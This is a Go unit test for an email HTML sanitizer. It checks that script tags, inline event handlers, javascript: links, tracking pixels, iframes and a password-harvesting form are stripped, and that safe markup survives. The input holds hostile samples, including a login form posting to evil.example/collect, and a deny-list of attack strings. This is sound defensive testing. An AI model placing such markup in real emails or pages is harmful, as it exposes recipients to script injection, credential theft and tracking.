package messaging

import (
	"strings"
	"testing"
)

func TestSanitizeEmailHTML(t *testing.T) {
	in := `<p onclick="steal()" style="color: red">Hello <b>Bina</b><script>alert(1)</script></p>` +
		`<a href="javascript:alert(1)">click</a> <a href="https://example.com/brochure" onmouseover="x()">brochure</a>` +
		`<form action="https://evil.example/collect"><input name="password"><button>Log in</button></form>` +
		`<img src="https://track.example/pixel.gif" width="1" height="1"><iframe src="https://evil.example"></iframe>` +
		`<style>p{display:none}</style><table><tr><td>Price</td><td>50 L</td></tr></table>`
	out := sanitizeEmailHTML(in)
	for _, bad := range []string{"<script", "alert(1)", "onclick", "onmouseover", "javascript:", "<form", "<input", "<button",
		"<img", "track.example", "<iframe", "<style", "evil.example"} {
		if strings.Contains(out, bad) {
			t.Errorf("sanitized html holds %q: %s", bad, out)
		}
	}
	for _, good := range []string{"Hello <b>Bina</b>", `href="https://example.com/brochure"`, `rel="nofollow noreferrer noopener"`,
		"<td>Price</td>", `style="color: red"`} {
		if !strings.Contains(out, good) {
			t.Errorf("sanitized html lacks %q: %s", good, out)
		}
	}
	if got := sanitizeEmailHTML("<p>Please find the brochure.</p>"); got != "<p>Please find the brochure.</p>" {
		t.Errorf("plain html changed: %s", got)
	}
}
